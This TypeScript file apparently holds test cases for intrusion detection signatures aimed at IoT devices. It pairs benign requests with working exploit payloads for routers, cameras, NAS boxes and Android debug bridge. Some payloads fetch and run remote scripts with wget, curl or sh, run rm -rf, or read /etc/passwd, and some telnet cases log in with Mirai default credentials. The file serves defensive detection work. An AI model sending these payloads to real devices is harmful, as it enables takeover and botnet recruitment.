// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads of attacks are written with these characters
import { hex, little, type SignatureCase, says, signature, talk } from '../exchange';
import { get, post, put, XML_TYPE } from '../http';

const soap = (element: string, value: string) =>
  `<?xml version="1.0"?><s:Envelope><s:Body><u:Action><${element}>${value}</${element}></u:Action></s:Body></s:Envelope>`;

/** Android debug bridge: command, two arguments, length, checksum, inverted command, data. */
const adb = (command: string, data: string) =>
  `${command}${little(4, 1)}${little(4, 0)}${little(4, data.length)}${little(4, 0)}${[...command].map((c) => String.fromCharCode(255 - c.charCodeAt(0))).join('')}${data}`;

const login = says('\xff\xfd\x01\r\nlogin: ');

export const iot: readonly SignatureCase[] = [
  signature(
    9000301,
    [
      post(
        '/GponForm/diag_Form?images/',
        'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://example.net/x`;&ipv=0',
      ),
      post('/gponform/diag_Form?style/', 'dest_host=%60id%60&ipv=0', {}, 8080),
    ],
    [post('/GponForm/diag_Form', 'XWebPageName=diag&diag_action=ping&dest_host=192.0.2.1&ipv=0')],
  ),
  signature(
    9000302,
    [
      get('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1'),
      get('/Setup.cgi?todo=SysCmd&cmd=id'),
    ],
    [get('/setup.cgi?next_file=index.htm&todo=save')],
  ),
  signature(
    9000303,
    [get("/cgi-bin/;killall$IFS'httpd'"), get('/cgi-bin/%3Bid')],
    [get('/cgi-bin/status;jsessionid=1')],
  ),
  signature(
    9000304,
    [
      post('/HNAP1/', '', {
        SOAPAction: 'http://purenetworks.com/HNAP1/`cd /tmp && wget http://example.net/a`',
      }),
      get('/HNAP1/', { soapaction: '"http://purenetworks.com/HNAP1/GetDeviceSettings/;id"' }),
    ],
    [post('/HNAP1/', '<a/>', { SOAPAction: '"http://purenetworks.com/HNAP1/GetDeviceSettings"' })],
  ),
  signature(
    9000305,
    [
      get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ='),
      get('/cgi-bin/NAS_sharing.cgi?cmd=15&user=messagebus&system=dW5hbWU='),
    ],
    [get('/cgi-bin/nas_sharing.cgi?user=ann&passwd=x&cmd=3')],
  ),
  signature(
    9000306,
    [
      get("/adv,/cgi-bin/weblogin.cgi?username=admin';ls+#&password=a"),
      get('/cgi-bin/weblogin.cgi?password=x&username=admin%60id%60'),
    ],
    [get('/cgi-bin/weblogin.cgi?username=admin&password=x%3by')],
  ),
  signature(
    9000307,
    [
      post(
        '/ztp/cgi-bin/handler',
        '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; curl example.net;","data":"hi"}',
      ),
      post('/ztp/cgi-bin/handler', '{"command":"setWanPortSt","mtu":"1500","data" : "`id`"}'),
    ],
    [post('/ztp/cgi-bin/handler', '{"command":"setWanPortSt","proto":"dhcp","mtu":"1500","data":"hi"}')],
  ),
  signature(
    9000308,
    [
      put('/SDK/webLanguage', '<?xml version="1.0"?><language>$(ls -l > webLib/x)</language>', XML_TYPE),
      put('/sdk/weblanguage', '<Language>en`id`</Language>', XML_TYPE),
    ],
    [put('/SDK/webLanguage', '<language>en</language>', XML_TYPE)],
  ),
  signature(
    9000309,
    [get('/Security/users?auth=YWRtaW46MTEK'), get('/onvif-http/snapshot?a=1&auth=YWRtaW46MTEK')],
    [get('/api?auth=YWRtaW46MTEK'), get('/Security/users?auth=dXNlcjpwYXNz')],
  ),
  signature(
    9000310,
    [
      get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/out)'),
      get('/cgi-bin/luci/%3bstok=/locale?operation=write&country=%60id%60&form=country'),
    ],
    [get('/cgi-bin/luci/;stok=a1/locale?form=country&operation=write&country=DE')],
  ),
  signature(
    9000311,
    [
      get('/shell?cd+/tmp;rm+-rf+*;wget+http://example.net/jaws;sh+/tmp/jaws'),
      get('/shell?cat%20/etc/passwd', {}, 60001),
    ],
    [get('/shell?sort=price'), get('/beach/shell?cat=2'), get('/shell?cat=2')],
  ),
  signature(
    9000312,
    [
      post(
        '/picsdesc.xml',
        soap('NewInternalClient', '`cd /var; wget http://example.net/a`'),
        XML_TYPE,
        52869,
      ),
      post('/wanipcn.xml', soap('newinternalclient', '$(id)'), XML_TYPE, 52869),
    ],
    [post('/wanipcn.xml', soap('NewInternalClient', '192.168.1.20'), XML_TYPE, 52869)],
  ),
  signature(
    9000313,
    [
      post(
        '/ctrlt/DeviceUpgrade_1',
        soap('NewStatusURL', '$(/bin/busybox wget -g 198.51.100.99 -l /tmp/a -r /a)'),
        XML_TYPE,
        37215,
      ),
      post('/ctrlt/deviceupgrade_1', soap('NewDownloadURL', '`id`'), XML_TYPE, 37215),
    ],
    [post('/ctrlt/DeviceUpgrade_1', soap('NewStatusURL', 'http://acs.example.org/status'), XML_TYPE, 37215)],
  ),
  signature(
    9000314,
    [
      post(
        '/tmUnblock.cgi',
        'submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_ip=-h+`cd+/tmp`&StartEPI=1',
        {},
        8080,
      ),
      post('/hndUnblock.cgi', 'ttcp_ip=-h%20%60id%60&StartEPI=1'),
    ],
    [post('/tmUnblock.cgi', 'ttcp_num=2&ttcp_ip=192.0.2.5&StartEPI=1')],
  ),
  signature(
    9000315,
    [
      post('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20/tmp', 'x'),
      get('/device.rsp?mdb=sos&mdc=id&opt=sys&cmd=___s_o_s_t_r_e_a_max___'),
    ],
    [get('/device.rsp?opt=user&cmd=list')],
  ),
  signature(
    9000316,
    [
      post('/UD/act?1', soap('NewNTPServer1', '`cd /tmp;wget http://example.net/1;sh 1`'), XML_TYPE, 7547),
      post('/ud/act?1', soap('NewNTPServer2', '$(id)'), XML_TYPE, 5555),
    ],
    [post('/UD/act?1', soap('NewNTPServer1', 'pool.ntp.org'), XML_TYPE, 7547)],
  ),
  signature(
    9000317,
    [
      post('/boafrm/formSysCmd', 'sysCmd=id&apply=Apply'),
      post('/goform/formsyscmd', 'sysCmd=cat+/etc/passwd'),
    ],
    [post('/boafrm/formLogin', 'username=a&password=b')],
  ),
  signature(
    9000318,
    [
      get(
        '/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password>$(id)&password=admin',
      ),
      get('/cgi-bin/nobody/search.cgi?action=cgi_query&password=`id`'),
    ],
    [get('/cgi-bin/nobody/Search.cgi?action=scan')],
  ),
  signature(
    9000319,
    [get('/board.cgi?cmd=cd+/tmp;wget+http://example.net/a'), get('/Board.cgi?CMD=id')],
    [get('/board.cgi?page=2')],
  ),
  signature(
    9000320,
    [
      get('/language/Swedish${IFS}&&echo${IFS}610cker>qt&&tar${IFS}/string.js', {}, 8080),
      get('/Language/x$%7BIFS%7D%26%26id'),
    ],
    [get('/language/Swedish/string.js'), get('/docs/language?q=IFS')],
  ),
  signature(
    9000321,
    [
      talk(
        5555,
        adb('CNXN', 'host::\0'),
        says(adb('CNXN', 'device::\0')),
        adb('OPEN', 'shell:cd /data/local/tmp; busybox wget http://example.net/w.sh -O w.sh\0'),
      ),
      talk(5555, adb('CNXN', 'host::features=cmd\0'), adb('OPEN', 'shell:curl http://example.net/a | sh\0')),
    ],
    [talk(5555, adb('CNXN', 'host::\0'), adb('OPEN', 'shell:getprop ro.product.model\0'))],
  ),
  signature(
    9000322,
    [
      talk(
        23,
        login,
        'root\r\n',
        says('\r\n# '),
        'enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n',
      ),
      talk(2323, login, 'admin\r\n', 'cat /proc/mounts; /bin/busybox ECCHI\r\n'),
    ],
    [talk(23, login, 'ops\r\n', '/bin/busybox ls -l\r\n/bin/busybox free\r\n')],
  ),
  signature(
    9000323,
    [
      talk(23, login, 'root\r\n', says('Password: '), 'xc3511\r\n'),
      talk(2323, login, 'admin\r', 'xc3511\r\0'),
    ],
    [talk(23, login, 'root\r\n', says('Password: '), 'xc3512\r\n')],
  ),
  signature(
    9000324,
    [
      talk(23, login, 'root\r\n', says('Password: '), '7ujMko0admin\r\n'),
      talk(23, login, 'root\r\n', '7ujMko0vizxv\r\0'),
    ],
    [talk(23, login, 'root\r\n', says('Password: '), '7ujMko0rain\r\n')],
  ),
  signature(
    9000325,
    [
      talk(23, hex('fffb27'), says(hex('fffa2701fff0')), `${hex('fffa2700')}\0USER\x01-fbin${hex('fff0')}`),
      talk(23, `${hex('fffa2700')}\x03TERM\x01xterm\0USER\x01-froot${hex('fff0')}`),
    ],
    [talk(23, hex('fffb27'), `${hex('fffa2700')}\0USER\x01fred\x03DISPLAY\x01-f:0${hex('fff0')}`)],
  ),
];
